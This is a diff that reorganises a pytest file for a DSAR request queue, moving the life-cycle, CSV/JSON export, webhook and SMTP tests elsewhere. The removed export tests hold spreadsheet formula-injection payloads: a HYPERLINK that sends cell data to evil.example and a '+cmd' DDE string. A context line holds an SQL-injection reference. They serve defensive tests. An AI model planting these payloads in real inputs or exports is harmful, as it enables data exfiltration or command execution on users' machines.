@@ -1,66 +1,23 @@
-"""The DSAR queue on real SQLite and a real PostgreSQL: submission, life cycle, verification, sinks."""
+"""The DSAR queue on real SQLite and a real PostgreSQL: due dates, submission, privacy at rest,
+verification, and opening the queue (its key, migrations, default database). The life cycle and the
+export are in tests/test_requests_lifecycle.py; the listeners, the webhook and mail delivery in
+tests/test_requests_delivery.py."""
 
 from __future__ import annotations
 
-import csv
-import email
-import hashlib
-import hmac
-import io
-import json
 import os
 import re
-import socket
 import stat
-import threading
 from datetime import UTC, date, datetime, timedelta
-from email import policy
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from itertools import product
 from pathlib import Path
-from typing import ClassVar
 
 import pytest
 from sqlalchemy import text
 
-from assistant import (
-    InvalidTransitionError,
-    RequestDraft,
-    RequestError,
-    UnknownRequestError,
-    VerificationError,
-)
-from assistant.requests import STATUSES, TRANSITIONS, RequestQueue, add_months, due_date
-from assistant.requests.export import spreadsheet_safe
+from assistant import RequestError, UnknownRequestError, VerificationError
+from assistant.requests import RequestQueue, add_months, due_date
 from assistant.requests.outbox import OutboxWorker
-from assistant.requests.sinks import SIGNATURE_HEADER, TIMESTAMP_HEADER
-
-NOW = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)
-
-
-def draft(**changes) -> RequestDraft:
-    values = {"rights": ["erasure"], "name": "Jo Bloggs", "email": "jo@example.com"}
-    values.update(changes)
-    return RequestDraft(**values).refresh_missing()
-
-
-def mails(queue: RequestQueue) -> list[email.message.EmailMessage]:
-    """Every mail the queue sent: the outbox worker delivers what is due, then its folder is read."""
-    worker = OutboxWorker(queue.storage)
-    worker.deliver_due()
-    return worker.folder.messages()
-
-
-def code_and_token(message) -> tuple[str, str]:
-    body = message.get_content()
-    code = re.search(r"^\s+(\d{6})\s*$", body, re.MULTILINE).group(1)
-    token = re.search(r"code=([A-Za-z0-9_-]+)", body).group(1)
-    return code, token
-
-
-def snapshot(queue: RequestQueue) -> list[tuple]:
-    """Everything about every request and its trail, to show an operation changed nothing."""
-    return [(r, tuple(queue.events(r.reference))) for r in queue.list()]
+from tests.requests_support import NOW, code_and_token, draft, mails, snapshot
 
 
 # -- due dates ----------------------------------------------------------------------------------
@@ -160,174 +117,6 @@ def test_unknown_and_malformed_references(queue):
         queue.get("42; DROP TABLE rights_requests")
 
 
-# -- the life cycle -----------------------------------------------------------------------------
-ALL_PAIRS = list(product(STATUSES, STATUSES))
-
-
-def walk_to(queue: RequestQueue, status: str, key: str) -> str:
-    """A request brought to ``status`` through allowed transitions only."""
-    reference = queue.submit(draft(), key, now=NOW).request.reference
-    path = {
-        "pending_verification": [],
-        "verified": ["verified"],
-        "in_progress": ["verified", "in_progress"],
-        "completed": ["verified", "in_progress", "completed"],
-        "rejected": ["rejected"],
-        "withdrawn": ["withdrawn"],
-    }[status]
-    for step in path:
-        queue.transition(reference, step, actor="team@example.com", now=NOW)
-    return reference
-
-
-@pytest.mark.parametrize(("current", "new"), ALL_PAIRS, ids=[f"{a}->{b}" for a, b in ALL_PAIRS])
-def test_every_transition_is_allowed_or_refused_as_the_life_cycle_says(queue, current, new):
-    reference = walk_to(queue, current, f"walk-{current}-{new}")
-    if new in TRANSITIONS[current]:
-        moved = queue.transition(reference, new, actor="team@example.com", note="done", now=NOW)
-        assert moved.status == new
-        last = queue.events(reference)[-1]
-        assert (last.kind, last.detail["from"], last.detail["to"]) == ("status_changed", current, new)
-    else:
-        before = snapshot(queue)
-        with pytest.raises(InvalidTransitionError, match=f"cannot become {new}"):
-            queue.transition(reference, new, actor="team@example.com", now=NOW)
-        assert snapshot(queue) == before
-
-
-def test_the_life_cycle_is_the_one_the_issue_describes():
-    assert TRANSITIONS["pending_verification"] == {"verified", "rejected", "withdrawn"}
-    assert TRANSITIONS["verified"] == {"in_progress", "rejected", "withdrawn"}
-    assert TRANSITIONS["in_progress"] == {"completed", "rejected", "withdrawn"}
-    assert all(not TRANSITIONS[s] for s in ("completed", "rejected", "withdrawn"))
-
-
-def test_unknown_status_is_refused(queue):
-    reference = queue.submit(draft(), "k", now=NOW).request.reference
-    with pytest.raises(InvalidTransitionError, match="unknown status 'done'"):
-        queue.transition(reference, "done", actor="team")
-
-
-def test_assign_extend_and_their_trail(queue):
-    reference = queue.submit(draft(), "k", now=NOW).request.reference
-    assert queue.assign(reference, "ana@numecent.com", actor="lead").assignee == "ana@numecent.com"
-    extended = queue.extend(reference, "many systems to search", actor="ana", months=1, now=NOW)
-    assert extended.due_at == date(2026, 5, 10)
-    assert extended.extension_reason == "many systems to search"
-    assert queue.extend(reference, "still complex", actor="ana", months=1, now=NOW).due_at == date(
-        2026, 6, 10
-    )
-    before = snapshot(queue)
-    with pytest.raises(RequestError, match="already extended by 2 month"):
-        queue.extend(reference, "more", actor="ana", months=1)
-    with pytest.raises(RequestError, match="needs a reason"):
-        queue.extend(reference, "   ", actor="ana")
-    with pytest.raises(RequestError, match="actor is required"):
-        queue.assign(reference, "ana", actor="")
-    assert snapshot(queue) == before
-    kinds = [e.kind for e in queue.events(reference)]
-    assert kinds == ["submitted", "assigned", "extended", "extended"]
-
-
-def test_closed_requests_cannot_be_assigned_or_extended(queue):
-    reference = walk_to(queue, "completed", "k")
-    with pytest.raises(RequestError, match="only open requests"):
-        queue.assign(reference, "ana", actor="lead")
-    with pytest.raises(RequestError, match="only open requests"):
-        queue.extend(reference, "reason", actor="lead")
-
-
-def test_list_filters_overdue_and_export(queue):
-    old = queue.submit(draft(email="old@example.com"), "old", now=NOW - timedelta(days=60)).request
-    new = queue.submit(draft(email="new@example.com", rights=["access", "erasure"]), "new", now=NOW).request
-    done = walk_to(queue, "completed", "done")
-    today = NOW.date()
-    assert [r.reference for r in queue.list(overdue=True, today=today)] == [old.reference]
-    assert {r.reference for r in queue.list(status="pending_verification")} == {old.reference, new.reference}
-    assert [r.reference for r in queue.list(status=["completed"])] == [done]
-    assert [r.reference for r in queue.list(due_before=date(2026, 3, 1))] == [old.reference]
-    with pytest.raises(RequestError, match="unknown status"):
-        queue.list(status="lost")
-    exported = json.loads(queue.export("json", status="pending_verification"))
-    assert {row["email"] for row in exported} == {"old@example.com", "new@example.com"}
-    assert next(row for row in exported if row["email"] == "old@example.com")["overdue"] is True
-    csv_text = queue.export("csv")
-    assert csv_text.splitlines()[0].startswith("reference,rights,status")
-    assert "access erasure" in csv_text and len(csv_text.strip().splitlines()) == 4
-    with pytest.raises(RequestError, match="use csv or json"):
-        queue.export("xml")
-
-
-# What a visitor could type to make a spreadsheet run a formula when the team opens the export.
-HOSTILE = {
-    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Jo")',
-    "data_concerned": "  +cmd|' /C calc'!A0",
-    "categories": ["-2+3", "purchases"],
-}
-
-
-def formula_cells(csv_text: str) -> list[str]:
-    """Cells of ``csv_text`` that a spreadsheet would evaluate as a formula."""
-    rows = list(csv.reader(io.StringIO(csv_text)))
-    return [
-        cell
-        for row in rows
-        for cell in row
-        if cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))
-    ]
-
-
-def test_csv_export_neutralises_cells_a_spreadsheet_would_evaluate(queue):
-    reference = queue.submit(draft(**HOSTILE), "hostile", now=NOW).request.reference
-    queue.assign(reference, "@ana", actor="lead")
-    queue.extend(reference, "=1+1 systems to search", actor="lead", months=1)
-    csv_text = queue.export("csv")
-    assert formula_cells(csv_text) == []
-    (row,) = csv.DictReader(io.StringIO(csv_text))
-    assert row["name"] == "'" + HOSTILE["name"]  # kept whole, read as text
-    assert row["data_concerned"] == "'" + HOSTILE["data_concerned"]
-    assert row["categories"] == "'-2+3; purchases"
-    assert row["assignee"] == "'@ana"
-    assert row["extension_reason"] == "'=1+1 systems to search"
-    assert row["email"] == "jo@example.com" and row["extension_months"] == "1"
-    (exported,) = json.loads(queue.export("json"))  # JSON is data, not a sheet: unchanged
-    assert exported["name"] == HOSTILE["name"]
-
-
-@pytest.mark.parametrize(
-    ("cell", "safe"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+44 20 7946 0958", "'+44 20 7946 0958"),
-        ("-1", "'-1"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tx", "'\tx"),
-        ("\r=1", "'\r=1"),
-        ("   =1", "'   =1"),
-        ("\n@x", "'\n@x"),
-        ("Jo = Bloggs", "Jo = Bloggs"),
-        ("jo@example.com", "jo@example.com"),
-        ("", ""),
-        (3, 3),
-        (None, None),
-    ],
-)
-def test_spreadsheet_safe(cell, safe):
-    assert spreadsheet_safe(cell) == safe
-
-
-def test_claim_next_takes_verified_requests_soonest_due_first(queue):
-    later = walk_to(queue, "verified", "later")
-    first = queue.submit(draft(), "first", now=NOW - timedelta(days=5)).request.reference
-    queue.transition(first, "verified", actor="team")
-    pending = queue.submit(draft(), "pending", now=NOW - timedelta(days=9)).request.reference
-    claimed = queue.claim_next("worker-1")
-    assert (claimed.reference, claimed.status, claimed.assignee) == (first, "in_progress", "worker-1")
-    assert queue.claim_next("worker-2").reference == later
-    assert queue.claim_next("worker-3") is None
-    assert queue.get(pending).status == "pending_verification"
-
-
 # -- privacy at rest ----------------------------------------------------------------------------
 def test_identity_is_encrypted_at_rest_and_the_key_file_is_private(queue):
     queue.submit(
@@ -425,139 +214,7 @@ def test_resending_is_rate_limited(queue):
     assert len(mails(queue)) == 4
 
 
-# -- listeners and the webhook outbox -----------------------------------------------------------
-def test_listeners_hear_events_after_commit_and_a_failing_one_breaks_nothing(queue):
-    heard = []
-
-    def broken(event):
-        raise RuntimeError("subscriber bug")
-
-    queue.subscribe(broken)
-    unsubscribe = queue.subscribe(
-        lambda e: heard.append((e.kind, e.reference, queue.get(e.reference).status))
-    )
-    reference = queue.submit(draft(), "k", now=NOW).request.reference
-    queue.transition(reference, "verified", actor="team")
-    with pytest.raises(InvalidTransitionError):
-        queue.transition(reference, "completed", actor="team")  # refused: nobody hears of it
-    unsubscribe()
-    queue.transition(reference, "in_progress", actor="team")
-    assert heard == [
-        ("submitted", reference, "pending_verification"),
-        ("status_changed", reference, "verified"),
-    ]
-
-
-class _Endpoint(BaseHTTPRequestHandler):
-    """A webhook receiver that is down (503) until told otherwise."""
-
-    up = False
-    received: ClassVar[list[tuple[dict, bytes]]] = []
-
-    def do_POST(self):
-        body = self.rfile.read(int(self.headers["Content-Length"]))
-        if not type(self).up:
-            self.send_response(503)
-            self.end_headers()
-            return
-        type(self).received.append((dict(self.headers), body))
-        self.send_response(204)
-        self.end_headers()
-
-    def log_message(self, *args):
-        pass
-
-
-def test_webhook_events_are_signed_and_survive_a_down_endpoint(queue_settings, tmp_path):
-    from assistant.prompts import load_prompts
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), _Endpoint)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    _Endpoint.up, _Endpoint.received = False, []
-    settings = queue_settings.model_copy(
-        update={"webhook_url": f"http://127.0.0.1:{server.server_port}/hook", "webhook_secret": "s3cret"}
-    )
-    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
-    try:
-        reference = queue.submit(draft(), "k", now=NOW).request.reference
-        queue.transition(reference, "verified", actor="team", now=NOW)
-        worker = OutboxWorker(queue.storage)
-        assert worker.deliver_due(NOW) == 1  # the verification mail went out
-        assert worker.pending() == 2  # both events wait
-        assert worker.deliver_due(NOW + timedelta(seconds=5)) == 0  # not due yet: back-off
-        _Endpoint.up = True
-        assert worker.deliver_due(NOW + timedelta(hours=2)) == 2
-        assert worker.pending() == 0
-        assert worker.deliver_due(NOW + timedelta(hours=3)) == 0  # nothing is sent twice
-        events = [json.loads(body) for _, body in _Endpoint.received]
-        assert [(e["event"], e["reference"]) for e in events] == [
-            ("submitted", reference),
-            ("status_changed", reference),
-        ]
-        assert "jo@example.com" not in json.dumps(events)
-        for headers, body in _Endpoint.received:
-            expected = hmac.new(b"s3cret", headers[TIMESTAMP_HEADER].encode() + b"." + body, hashlib.sha256)
-            assert headers[SIGNATURE_HEADER] == f"sha256={expected.hexdigest()}"
-    finally:
-        queue.close()
-        server.shutdown()
-
-
-# -- real SMTP ----------------------------------------------------------------------------------
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
-def test_verification_mail_through_a_real_smtp_server(queue_settings):
-    from aiosmtpd.controller import Controller
-
-    from assistant.prompts import load_prompts
-
-    class Inbox:
-        def __init__(self) -> None:
-            self.messages: list[tuple[str, list[str], bytes]] = []
-
-        async def handle_DATA(self, server, session, envelope):
-            self.messages.append((envelope.mail_from, envelope.rcpt_tos, envelope.content))
-            return "250 OK"
-
-    inbox = Inbox()
-    port = _free_port()
-    controller = Controller(inbox, hostname="127.0.0.1", port=port)
-    controller.start()
-    settings = queue_settings.model_copy(update={"smtp_url": f"smtp://127.0.0.1:{port}"})
-    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
-    try:
-        reference = queue.submit(draft(email="Mixed.Case@Example.com"), "k").request.reference
-        assert OutboxWorker(queue.storage).deliver_due() == 1
-        [(_sender, recipients, content)] = inbox.messages
-        assert recipients == ["mixed.case@example.com"]
-        message = email.message_from_bytes(content, policy=policy.default)
-        code, _ = code_and_token(message)
-        assert queue.verify(reference, code).status == "verified"
-        assert not (settings.data_dir / "outbox").exists()
-    finally:
-        queue.close()
-        controller.stop()
-
-
-def test_mail_to_a_down_smtp_server_waits_in_the_outbox(queue_settings):
-    from assistant.prompts import load_prompts
-
-    settings = queue_settings.model_copy(update={"smtp_url": f"smtp://127.0.0.1:{_free_port()}"})
-    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
-    try:
-        submission = queue.submit(draft(), "k")
-        assert submission.created  # the request is safe even though the mail could not go yet
-        worker = OutboxWorker(queue.storage)
-        assert worker.deliver_due() == 0
-        assert worker.pending() == 1
-    finally:
-        queue.close()
-
-
+# -- opening the queue: the key, the migrations, the default database ---------------------------
 def test_a_bad_encryption_key_is_a_clear_configuration_error(queue_settings):
     from assistant import ConfigurationError
     from assistant.prompts import load_prompts
